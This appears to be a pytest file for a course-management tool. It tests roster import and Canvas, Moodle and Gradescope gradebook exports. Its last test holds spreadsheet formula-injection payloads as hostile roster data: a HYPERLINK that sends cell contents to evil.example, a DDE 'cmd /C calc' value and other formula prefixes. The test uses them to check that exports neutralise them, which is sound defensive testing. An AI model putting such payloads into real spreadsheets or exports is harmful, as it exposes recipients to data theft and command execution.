"""The roster and the LMS gradebook imports: `course roster FILE`, `course report --format canvas|moodle|gradescope`."""

from __future__ import annotations

import csv
import os
import sys
import warnings
from pathlib import Path

import pytest
from course_support import FIXTURE_MODULES, call_cli

ROSTER = """id,first_name,last_name,email,lms_user_id
alice,Alice,Liddell,alice@example.edu,1001
bob,Bob,Builder,bob@example.edu,1002
"""


def _gradebook(course, monkeypatch) -> None:
    """What autograde leaves in the gradebook for the demo module (5 points): alice 5, bob 0.

    Made with nbgrader's own API (autograding itself is proven elsewhere), so these tests take
    a second, not an nbgrader run.
    """
    from nbgrader.api import Gradebook

    from tinyflo.course.semester.instructor import COURSE_ID

    monkeypatch.setenv("PATH", f"{Path(sys.executable).parent}{os.pathsep}{os.environ.get('PATH', '')}")  # alembic
    # nbgrader's add_submission makes SQLAlchemy warn about its own session handling: not ours to fix
    monkeypatch.setattr(warnings, "filters", warnings.filters[:])
    warnings.filterwarnings("ignore", message=".*not in session.*")
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}", course_id=COURSE_ID) as gradebook:
        gradebook.update_or_create_assignment("00_demo")
        gradebook.add_notebook("demo", "00_demo")
        for cell, most in (("task_a", 3), ("task_b", 2)):
            gradebook.add_grade_cell(cell, "demo", "00_demo", max_score=most, cell_type="code")
        for student, points in (("alice", (3, 2)), ("bob", (0, 0))):
            gradebook.update_or_create_student(student)
            gradebook.add_submission("00_demo", student)
            for cell, score in zip(("task_a", "task_b"), points):
                gradebook.find_grade(cell, "demo", "00_demo", student).auto_score = score
            gradebook.db.commit()


@pytest.fixture(scope="module")
def graded_course(tmp_path_factory):
    """A built course whose gradebook holds the demo module's grades for alice and bob, the roster in."""
    course = tmp_path_factory.mktemp("lms") / "course"
    common = ["--dir", str(course), "--modules", str(FIXTURE_MODULES)]
    assert call_cli("course", "build", *common)[0] == 0
    with pytest.MonkeyPatch.context() as monkeypatch:
        _gradebook(course, monkeypatch)
    roster = course.parent / "roster.csv"
    roster.write_text(ROSTER)
    code, out = call_cli("course", "roster", str(roster), *common)
    assert code == 0 and "2 students in the gradebook's roster" in out, out
    return course, common


def _report(course, common, lms):
    out_file = course.parent / f"{lms}.csv"
    code, out = call_cli("course", "report", "--format", lms, "--csv", str(out_file), *common)
    assert code == 0 and f"({lms}'s gradebook import)" in out, out
    with out_file.open(newline="") as handle:
        return list(csv.DictReader(handle))


def test_canvas_import_has_its_id_columns_the_points_possible_and_a_column_per_module(graded_course):
    rows = _report(*graded_course, "canvas")
    assert list(rows[0]) == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "00_demo"]
    assert rows[0]["Student"] == "Points Possible" and rows[0]["00_demo"] == "5"
    by_login = {row["SIS Login ID"]: row for row in rows[1:]}
    assert by_login["alice"]["Student"] == "Liddell, Alice" and by_login["alice"]["ID"] == "1001"
    assert by_login["alice"]["00_demo"] == "5" and by_login["bob"]["00_demo"] == "0"


def test_moodle_import_is_matched_by_username_or_email(graded_course):
    rows = _report(*graded_course, "moodle")
    assert list(rows[0]) == ["Username", "Email address", "First name", "Last name", "00_demo"]
    assert {(r["Username"], r["Email address"], r["00_demo"]) for r in rows} == {
        ("alice", "alice@example.edu", "5"), ("bob", "bob@example.edu", "0")}


def test_gradescope_import_is_matched_by_email_or_sid(graded_course):
    rows = _report(*graded_course, "gradescope")
    assert list(rows[0]) == ["Name", "SID", "Email", "00_demo"]
    assert {(r["Name"], r["SID"], r["Email"], r["00_demo"]) for r in rows} == {
        ("Alice Liddell", "alice", "alice@example.edu", "5"), ("Bob Builder", "bob", "bob@example.edu", "0")}


def test_a_format_needs_a_file_and_a_roster_needs_its_id_column(graded_course, tmp_path):
    course, common = graded_course
    code, out = call_cli("course", "report", "--format", "canvas", *common)
    assert code == 2 and "--format canvas says how to write the CSV: give the file with --csv FILE" in out
    bad = tmp_path / "bad.csv"
    bad.write_text("name,email\nAlice,alice@example.edu\n")
    code, out = call_cli("course", "roster", str(bad), *common)
    assert code == 2 and "needs a header row with an 'id' column" in out
    bad.write_text("id,nickname\nalice,Al\n")
    code, out = call_cli("course", "roster", str(bad), *common)
    assert code == 2 and "has columns ['nickname'] that nbgrader keeps no place for" in out
    code, out = call_cli("course", "roster", str(tmp_path / "none.csv"), *common)
    assert code == 2 and "roster: cannot read" in out


HOSTILE_ROSTER = """id,first_name,last_name,email,lms_user_id
alice,"=HYPERLINK(""http://evil.example/?""&A1,""open"")","+1+cmd|' /C calc'!A0",@SUM(1+1),-2+3
bob,Bob,"	=1+1",bob@example.edu,1002
"""


def test_roster_text_a_spreadsheet_would_run_is_written_as_text(tmp_path, monkeypatch):
    """Names, emails and LMS ids come from students: none reaches a CSV as a formula, in any LMS's
    format, and every number (points, a negative late penalty) stays a number."""
    from tinyflo.course.semester.instructor import spreadsheet_text

    course = tmp_path / "course"
    common = ["--dir", str(course), "--modules", str(FIXTURE_MODULES)]
    assert call_cli("course", "build", *common)[0] == 0
    _gradebook(course, monkeypatch)
    (tmp_path / "roster.csv").write_text(HOSTILE_ROSTER)
    assert call_cli("course", "roster", str(tmp_path / "roster.csv"), *common)[0] == 0
    for lms in ("canvas", "moodle", "gradescope"):
        cells = [cell for row in _report(course, common, lms) for cell in row.values()]
        assert not [cell for cell in cells if cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t"))], (lms, cells)
        assert [cell for cell in cells if cell.startswith("'") and "1+1" in cell or "A1" in cell], cells  # as text
    assert [spreadsheet_text(t) for t in ("-2", "+3", "1.5e-3", "0", "-2+3", "-inf", " =1", "Liddell")] == [
        "-2", "+3", "1.5e-3", "0", "'-2+3", "'-inf", "' =1", "Liddell"]
